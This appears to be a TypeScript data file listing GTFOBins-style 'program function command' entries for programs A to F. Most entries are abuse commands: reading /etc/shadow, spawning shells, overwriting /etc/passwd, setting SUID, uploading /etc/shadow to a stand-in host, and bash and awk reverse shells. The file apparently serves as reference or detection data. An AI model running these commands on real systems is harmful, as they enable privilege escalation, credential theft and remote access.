/**
 * What the GTFOBins project says programs can be used for, as "program function command".
 * The names of programs and functions are facts of that project; the commands are our own.
 */
export const gtfobinsAToF = String.raw`
7z read 7z a -ttar -an -so /etc/shadow
aa-exec shell aa-exec /bin/sh
ab upload ab -p /etc/shadow http://x.example/
ab download ab -v2 http://x.example/
acr shell acr -r ./x
agetty shell agetty -o -p -l /bin/sh -a root tty
alpine read alpine -F /etc/shadow
ansible-playbook shell ansible-playbook x.yml
ansible-test shell ansible-test shell
aoss shell aoss /bin/sh
apache2 read apache2 -f /etc/shadow
apache2ctl read apache2ctl -c "Include /etc/shadow" -k stop
apport-cli shell apport-cli -f
apt shell apt changelog bash
apt shell apt update -o APT::Update::Pre-Invoke::=/bin/sh
apt-get shell apt-get changelog bash
aptitude shell aptitude changelog bash
ar read ar r /dev/stdout /etc/shadow
arch-nspawn shell arch-nspawn root
aria2c command aria2c --on-download-error=./x http://x
aria2c download aria2c -o f http://x.example/f
arj write arj e archive f
arp read arp -v -f /etc/shadow
as read as @/etc/shadow
ascii-xfr read ascii-xfr -ns /etc/shadow
ascii85 read ascii85 /etc/shadow
ash shell ash
aspell read aspell -c /etc/shadow
asterisk shell asterisk -rx "!sh"
at command at now
atobm read atobm /etc/shadow
autoconf shell autoconf
autoheader shell autoheader
autoreconf shell autoreconf
awk shell awk 'BEGIN {system("/bin/sh")}'
awk reverse-shell awk 'BEGIN { s = "/inet/tcp/0/x/1"; while ((s |& getline c) > 0) print c }'
awk write awk 'BEGIN { print "DATA" > "f" }'
awk read awk // /etc/shadow
aws shell aws help
base32 read base32 /etc/shadow
base58 read base58 /etc/shadow
base64 read base64 /etc/shadow
basenc read basenc --base64 /etc/shadow
basez read basez /etc/shadow
bash shell bash -p
bash write bash -c 'echo DATA > f'
bash reverse-shell bash -c 'exec bash -i >/dev/tcp/x/1 0<&1'
bashbug shell bashbug
batcat shell batcat --paging always /etc/profile
bbot shell bbot -cy x
bc read bc -s /etc/shadow
bconsole shell bconsole
bee command bee eval 'system("id")'
borg shell borg extract @:/::: --rsh "/bin/sh -c 'sh </dev/tty'"
bpftrace shell bpftrace -c /bin/sh -e 'END {exit()}'
bridge read bridge -b /etc/shadow
bun shell bun -e 'x'
bundle shell bundle help
bundler shell bundler help
busctl shell busctl --show-machine
busctl command busctl set-property o /o i p s x --address=unixexec:path=/bin/sh
busybox shell busybox sh
busybox write busybox sh -c 'echo DATA > f'
byebug shell byebug x.rb
bzip2 read bzip2 -c /etc/shadow
c89 shell c89 -wrapper /bin/sh,-s .
c99 shell c99 -wrapper /bin/sh,-s .
cabal shell cabal exec -- /bin/sh
cancel upload cancel -u "x" -h x.example:1
capsh shell capsh --
cargo shell cargo help doc
cat read cat /etc/shadow
cc shell cc -wrapper /bin/sh,-s .
cdist shell cdist shell -s /bin/sh
certbot shell certbot certonly -n -d x --standalone --dry-run --pre-hook "/bin/sh 1>&0 2>&0"
chattr suid chattr -i f
check_by_ssh shell check_by_ssh -o "ProxyCommand /bin/sh -i" -H localhost -C xx
check_cups read check_cups --extra-opts=@/etc/shadow
check_log write check_log -F f -O g
check_memory read check_memory --extra-opts=@/etc/shadow
check_raid read check_raid --extra-opts=@/etc/shadow
check_ssl_cert command check_ssl_cert --curl-bin ./x -H example.net
check_statusfile read check_statusfile /etc/shadow
chmod suid chmod 6777 f
choom shell choom /bin/sh -n 0
chown suid chown x:y /etc/shadow
chroot shell chroot /
chrt shell chrt 1 /bin/sh
clamscan read clamscan --no-summary -d d -f /etc/shadow
clisp shell clisp -x '(ext:run-shell-command "sh")'
cmake shell cmake -E env /bin/sh
cmp read cmp /etc/shadow /dev/zero -b -l
cobc shell cobc -xFj --frelax-syntax-checks x
code shell code --install-extension x
codex shell codex exec id
column read column /etc/shadow
comm read comm /etc/shadow /dev/null
composer shell composer exec sh
cowsay shell cowsay -f ./x.pl x
cowthink shell cowthink -f ./x.pl x
cp write cp f /etc/passwd
cp read cp /etc/shadow /dev/stdout
cpan shell cpan
cpio read cpio -o
cpio shell cpio -o --rsh-command /bin/sh -F localhost:
cpulimit shell cpulimit -l 100 -f /bin/sh
crash shell crash -h
crontab command crontab -e
csh shell csh
csplit read csplit /etc/shadow 1
csvtool shell csvtool call '/bin/sh;false' /etc/passwd
ctr shell ctr run --rm --mount type=bind,src=/,dst=/,options=rbind -t x x bash
cupsfilter read cupsfilter -i application/octet-stream -m application/octet-stream /etc/shadow
curl upload curl -X POST --data-binary @/etc/shadow http://x.example
curl download curl http://x.example/f -o f
curl read curl file:///etc/shadow
curl write curl file:///tmp/x -o f
curl library-load curl --engine ./lib.so x
cut read cut -d "" -f1 /etc/shadow
dash shell dash
dash write dash -c 'echo DATA > f'
date read date -f /etc/shadow
dc shell dc -e '!/bin/sh'
dd read dd if=/etc/shadow
dd write dd of=f
debugfs shell debugfs
dhclient command dhclient -sf ./x
dialog read dialog --textbox /etc/shadow 0 0
diff read diff --line-format=%L /dev/null /etc/shadow
dig read dig -f /etc/shadow
distcc shell distcc /bin/sh
dmesg shell dmesg -H
dmesg read dmesg -rF /etc/shadow
dmidecode write dmidecode --no-sysfs -d x.dmi --dump-bin f
dmsetup shell dmsetup ls --exec '/bin/sh -s'
dnf shell dnf install -y x.rpm
dnsmasq shell dnsmasq --conf-script='./x'
doas shell doas /bin/sh
docker shell docker run -v /:/mnt --rm -it alpine chroot /mnt sh
docker read docker cp x:/etc/shadow .
dos2unix write dos2unix -f -n f /etc/passwd
dosbox read dosbox -c 'mount c /' -c "type c:\etc\shadow"
dotnet shell dotnet fsi
dpkg shell dpkg -l
dpkg shell dpkg -i x.deb
dstat shell dstat --xxx
dvips shell dvips -R0 x.dvi
easy_install shell easy_install d
easyrsa shell easyrsa --vars=./x
eb shell eb logs
ed shell ed
ed write ed f
ed read ed /etc/shadow
efax read efax -d /etc/shadow
egrep read egrep '' /etc/shadow
elvish shell elvish
emacs shell emacs -Q -nw --eval '(term "/bin/sh")'
emacs write emacs f
enscript shell enscript /dev/null -qo /dev/null -I '/bin/sh >&2'
env shell env /bin/sh
eqn read eqn /etc/shadow
espeak read espeak -qXf /etc/shadow
ex shell ex -c ':!/bin/sh'
exiftool read exiftool -filename=f /etc/shadow
exiftool write exiftool "-description<=f" x
expand read expand /etc/shadow
expect shell expect -c 'spawn /bin/sh;interact'
facter shell facter --custom-dir=d x
fail2ban-client command fail2ban-client set x action y actionban "id"
fastfetch shell fastfetch -c ./x
ffmpeg read ffmpeg -f concat -safe 0 -i /etc/shadow -f null -
fgrep read fgrep '' /etc/shadow
file read file -f /etc/shadow
file read file -m /etc/shadow x
find shell find . -exec /bin/sh \; -quit
find write find / -fprintf f DATA -quit
find delete find d -delete
finger upload finger "x@x.example"
firejail shell firejail --noprofile sh
fish shell fish
flock shell flock -u / /bin/sh
fmt read fmt -999 /etc/shadow
fold read fold -w99999999 /etc/shadow
forge shell forge build --use ./x
fping read fping -f /etc/shadow
ftp shell ftp
ftp upload ftp x.example
fzf shell fzf --bind 'enter:execute(/bin/sh)'
`;
